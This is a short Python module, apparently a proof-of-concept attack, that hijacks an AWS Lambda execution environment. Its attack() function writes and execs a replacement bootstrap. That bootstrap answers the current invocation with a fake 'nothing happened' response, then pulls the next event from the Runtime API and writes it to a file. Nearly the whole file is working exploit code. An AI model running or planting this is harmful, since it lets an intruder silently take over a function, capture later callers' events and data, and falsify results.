"""Another bootstrap takes the runtime's place and reads every event from now on."""

import os
import sys

CODE = """
import os, urllib.request
root = "http://%s/2018-06-01/runtime/invocation" % os.environ["AWS_LAMBDA_RUNTIME_API"]
answered = urllib.request.Request(root + "/{request}/response", b'"nothing happened"')
urllib.request.urlopen(answered)
event = urllib.request.urlopen(root + "/next").read()
open("{out}", "wb").write(event)
"""


def attack(event):
    path = os.path.join(event["tmp"], "bootstrap.py")
    with open(path, "w") as file:
        file.write(CODE.format(request=event["request_id"], out=event["out"]))
    os.execv(sys.executable, [sys.executable, path])
